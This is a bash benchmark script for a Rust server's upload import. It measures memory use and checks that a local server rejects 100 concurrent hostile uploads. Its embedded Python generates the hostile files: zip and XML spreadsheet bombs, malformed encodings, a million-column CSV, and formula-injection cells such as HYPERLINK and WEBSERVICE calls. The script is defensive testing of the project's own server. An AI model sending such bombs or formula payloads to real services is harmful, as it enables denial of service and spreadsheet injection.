#!/usr/bin/env bash
# Upload memory benchmark (issue 12): the release server on a database without demo data; its
# resident memory idle, after a dry run of a large members CSV (the largest a county sends:
# just under the row limit, with a 家庭住址 column, about 250 MB), and while 100 hostile files
# are uploaded at once by an `org` user (spreadsheet bombs, 10^6 columns, NUL bytes, GBK and
# broken UTF-8, formulas, garbage, truncated and empty files), read from /proc/PID/status
# (VmRSS, VmHWM; a fresh server for each phase). Every upload is also checked to get a 4xx,
# and /healthz to answer throughout.
#
#   scripts/bench-uploads.sh            # ROWS=1040000 by default
set -euo pipefail
cd "$(dirname "$0")/.."
ROWS=${ROWS:-1040000}
COUNTY=${COUNTY:-441621}
HOSTILE=${HOSTILE:-100}
PORT=${PORT:-18097}
TARGET=${CARGO_TARGET_DIR:-target}
VILLAGES=${VILLAGES:-../shared/data/regions/villages.csv}
work=$(mktemp -d)
server=""
trap '[ -n "$server" ] && kill "$server" 2>/dev/null; rm -rf "$work"' EXIT

for tool in curl python3; do
  command -v "$tool" >/dev/null || { echo "needs $tool" >&2; exit 1; }
done
cargo build --release --locked -p bangfu >&2
bin="$TARGET/release/bangfu"

GEN_ADDRESS=1 python3 scripts/gen-members.py "$ROWS" "$COUNTY" "$VILLAGES" "$work/members.csv" >&2
python3 - "$work" <<'PY'
import os, sys, zipfile, zlib
work = sys.argv[1]
WB = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
HEAD = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'

def book(name, sheet_chunks, shared_chunks):
    with zipfile.ZipFile(os.path.join(work, name), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("xl/workbook.xml", WB)
        z.writestr("xl/_rels/workbook.xml.rels", RELS)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(b"<worksheet><sheetData>")
            for c in sheet_chunks:
                f.write(c)
            f.write(b"</sheetData></worksheet>")
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            for c in shared_chunks:
                f.write(c)

def repeat(piece, total, chunk=1 << 20):
    block = piece * (chunk // len(piece))
    for _ in range(total // len(block)):
        yield block

# The reproduced attacks: a declared count of 10^17 strings; cells A1 and XFD1048576.
book("unique-count.xlsx", [HEAD], [b'<sst count="100000000000000000" uniqueCount="100000000000000000"><si><t>x</t></si></sst>'])
book("last-cell.xlsx", [HEAD, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'], [b'<sst><si><t>x</t></si></sst>'])
# Expands past the 2 GiB unzipped limit: one row of empty cells.
book("unzip-bomb.xlsx", [HEAD, b'<row r="2">'] + list(repeat(b'<c r="A2"/>', 2200 << 20)) + [b'</row>'], [b'<sst><si><t>x</t></si></sst>'])
# A shared-string table past its 128 MiB bound.
book("strings-bomb.xlsx", [HEAD], [b'<sst>'] + list(repeat(b'<si><t>abcdefghijklmnopqrstuvwxyz0123456789</t></si>', 200 << 20)) + [b'</sst>'])
# Blank rows past the row limit.
book("rows-bomb.xlsx", [HEAD] + list(repeat(b'<row><c><v>1</v></c></row>', 40 << 20)), [b'<sst><si><t>x</t></si></sst>'])
good = open(os.path.join(work, "last-cell.xlsx"), "rb").read()
open(os.path.join(work, "truncated.xlsx"), "wb").write(good[: len(good) // 2])
open(os.path.join(work, "garbage.xlsx"), "wb").write(bytes((i * 2654435761 >> 13) & 0xFF for i in range(50000)))
open(os.path.join(work, "empty.csv"), "wb").write(b"")
open(os.path.join(work, "wide.csv"), "w").write(",".join(f"c{i}" for i in range(1000)) + "\n")
# A million columns in one header row (about 6.9 MB).
open(os.path.join(work, "million-columns.csv"), "w").write(",".join(f"c{i}" for i in range(1_000_000)) + "\n")
# NUL bytes inside cells; a GBK file (the encoding of older Excel exports); broken UTF-8.
# Rows of the real template, so every cell is read, with values no project may have.
HEAD_CSV = "项目编号,项目名称,主题,子类型,民生项目,对口关系编号,立项日期,开始日期,结束日期,状态,状态日期,预算（元）,项目地点,参与机构,项目简介\n"
def rows(name, budget, n=2000):
    return "".join(f"X{i},{name},教育帮扶,,是,1,2020-01-01,,,,,{budget},441621,,\n" for i in range(n))
open(os.path.join(work, "nul-bytes.csv"), "wb").write((HEAD_CSV + rows("学\x00校", "1\x0000")).encode())
open(os.path.join(work, "gbk.csv"), "wb").write((HEAD_CSV + rows("希望小学", "一百万")).encode("gbk"))
open(os.path.join(work, "broken-utf8.csv"), "wb").write(HEAD_CSV.encode() + rows("P", "100").encode() + b"P1,\xff\xfe\xc3(,\xe6\x95,,,1,2020-01-01,,,,,100,441621,,\n")
# Formulas: CSV cells that a spreadsheet would run, and XLSX cells that carry <f> formulas.
open(os.path.join(work, "formula.csv"), "w").write(HEAD_CSV + rows('=HYPERLINK(""http://x/?""&A1)', "=1+1"))
book("formulas.xlsx", [HEAD, b'<row r="2"><c r="A2"><f>SUM(B1:XFD1048576)</f><v>0</v></c><c r="B2" t="str"><f>WEBSERVICE("http://x")</f><v></v></c></row>'], [b'<sst><si><t>x</t></si></sst>'])
open(os.path.join(work, "old.xls"), "wb").write(bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + bytes(4088))
PY

"$bin" --database "$work/bench.db" migrate >/dev/null 2>&1
"$bin" --database "$work/bench.db" user add bench-admin --role admin >/dev/null 2>&1
token=$("$bin" --database "$work/bench.db" token create --user bench-admin 2>/dev/null | tail -1)
kb() { awk -v k="$2:" '$1 == k {print $2}' "/proc/$1/status"; }
# A fresh server per phase, so each peak is measured from the same idle state.
start_server() {
  if [ -n "$server" ]; then kill "$server"; wait "$server" 2>/dev/null || true; fi
  BANGFU_LOG=warn "$bin" --database "$work/bench.db" serve --addr "127.0.0.1:$PORT" >>"$work/server.log" 2>&1 &
  server=$!
  for _ in $(seq 100); do curl -sf "http://127.0.0.1:$PORT/healthz" >/dev/null && break; sleep 0.2; done
  sleep 2
}
start_server
idle=$(kb "$server" VmRSS)

# The hostile uploads come from an organisation's account (role org), as an attacker would have.
org_id=$(curl -sf -H "Authorization: Bearer $token" -H 'Content-Type: application/json' \
  -d '{"name":"基准测试公司","kind":"enterprise"}' "http://127.0.0.1:$PORT/api/v1/organisations" |
  python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
"$bin" --database "$work/bench.db" user add bench-org --role org --org "$org_id" >/dev/null 2>&1
org_token=$("$bin" --database "$work/bench.db" token create --user bench-org 2>/dev/null | tail -1)

# Phase 1: the large members file, dry run (every check, nothing written).
start=$(date +%s.%N)
code=$(curl -s -o "$work/dry.json" -w '%{http_code}' -H "Authorization: Bearer $token" \
  -F "file=@$work/members.csv" "http://127.0.0.1:$PORT/api/v1/imports/households?dry_run=true")
dry_s=$(echo "$(date +%s.%N) - $start" | bc)
dry_peak=$(kb "$server" VmHWM)
dry_rows=$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d.get("rows"), d.get("problem_count"))' "$work/dry.json" 2>/dev/null || head -c 300 "$work/dry.json")

# Phase 2: HOSTILE uploads at once, round robin over the hostile files, to the projects import
# (it reads a file through before the import starts, so every byte of each file is parsed).
start_server
before=$(kb "$server" VmRSS)
files=(unique-count.xlsx last-cell.xlsx unzip-bomb.xlsx strings-bomb.xlsx rows-bomb.xlsx truncated.xlsx garbage.xlsx empty.csv wide.csv old.xls
  million-columns.csv nul-bytes.csv gbk.csv broken-utf8.csv formula.csv formulas.xlsx)
: >"$work/codes"
probe_fail=0
uploads=()
start=$(date +%s.%N)
for i in $(seq 0 $((HOSTILE - 1))); do
  f=${files[$((i % ${#files[@]}))]}
  (curl -s -o /dev/null -w "%{http_code} $f\n" -H "Authorization: Bearer $org_token" -F "file=@$work/$f" \
    "http://127.0.0.1:$PORT/api/v1/imports/projects?dry_run=true" >>"$work/codes") &
  uploads+=($!)
done
peak_live=0
running() { for p in "${uploads[@]}"; do kill -0 "$p" 2>/dev/null && return 0; done; return 1; }
while running; do
  curl -sf -m 5 "http://127.0.0.1:$PORT/healthz" >/dev/null || probe_fail=$((probe_fail + 1))
  r=$(kb "$server" VmRSS); [ "$r" -gt "$peak_live" ] && peak_live=$r
  sleep 0.5
done
wait "${uploads[@]}"
hostile_s=$(echo "$(date +%s.%N) - $start" | bc)
hostile_peak=$(kb "$server" VmHWM)
after=$(kb "$server" VmRSS)
curl -sf "http://127.0.0.1:$PORT/healthz" >/dev/null && alive=yes || alive=NO

mb() { echo $(($1 / 1024)); }
cat <<MD
## Uploads (issue 12)

- Date: $(date -u '+%Y-%m-%d %H:%M UTC'); machine: $(nproc) cores, $(free -h | awk '/Mem:/ {print $2}') RAM, $(lscpu | grep 'Model name' | cut -d: -f2 | xargs); load average at the end: $(cut -d' ' -f1-3 /proc/loadavg); commit $(git rev-parse --short HEAD)
- Release server, SQLite database without demo data; limits at their defaults. Hostile uploads by a user of role \`org\` to \`POST /api/v1/imports/projects?dry_run=true\`.

| what | MB |
|---|---:|
| idle RSS | $(mb "$idle") |
| peak RSS during the dry run of $ROWS member rows ($(du -m "$work/members.csv" | cut -f1) MB CSV; $dry_s s; HTTP $code; rows, problems: $dry_rows) | $(mb "$dry_peak") |
| idle RSS of a fresh server before the hostile uploads | $(mb "$before") |
| peak RSS during $HOSTILE hostile uploads at once ($hostile_s s) | $(mb "$hostile_peak") |
| RSS after them | $(mb "$after") |

- Peak over idle: dry run +$(mb $((dry_peak - idle))) MB; hostile uploads +$(mb $((hostile_peak - before))) MB (highest VmRSS sampled every 0.5 s: $(mb "$peak_live") MB)
- Hostile files (sizes): $(cd "$work" && for f in "${files[@]}"; do printf '%s %s KB; ' "$f" $(( $(stat -c %s "$f") / 1024 )); done)
- Statuses: $(sort "$work/codes" | uniq -c | awk '{printf "%s× %s %s; ", $1, $2, $3}')
- /healthz probes that failed during the hostile uploads: $probe_fail; server alive after: $alive
MD
